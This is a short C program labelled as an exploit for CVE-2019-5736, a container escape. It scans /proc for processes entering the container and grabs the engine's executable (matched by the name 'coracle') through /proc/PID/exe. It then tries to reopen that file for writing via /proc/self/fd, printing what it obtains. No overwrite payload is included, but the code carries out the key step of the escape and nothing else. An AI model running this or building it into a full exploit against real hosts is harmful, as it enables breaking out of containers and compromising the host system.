/* CVE-2019-5736: watches for processes that enter the container and are not yet the program asked for, and takes hold
 * of their executable, which is the engine. Runs until killed; prints what it got. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	struct stat inside, other;
	char path[300], link[PATH_MAX];
	int announced = 0, attempts = 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/", &inside) != 0)
		return 1;
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		if (!proc)
			return 1;
		while ((entry = readdir(proc)) != NULL) {
			if (atoi(entry->d_name) <= 1 || atoi(entry->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			ssize_t length = readlink(path, link, sizeof link - 1);
			int file = open(path, O_RDONLY | O_CLOEXEC);
			attempts++;
			if (file < 0)
				continue;
			link[length > 0 ? length : 0] = 0;
			/* A program of the image is on the container's own file systems; the engine's binary is not
			 * reachable by its path here. */
			if (fstat(file, &other) == 0 &&
			    (length < 0 || strstr(link, "coracle") != NULL)) {
				printf("GOT %s\n", link);
				char again[64];
				snprintf(again, sizeof again, "/proc/self/fd/%d", file);
				int write_to = open(again, O_WRONLY);
				printf("WRITE %s\n", write_to >= 0 ? "opened" : strerror(errno));
			}
			close(file);
		}
		closedir(proc);
		if (!announced++)
			puts("watching");
	}
	return attempts == 0;
}
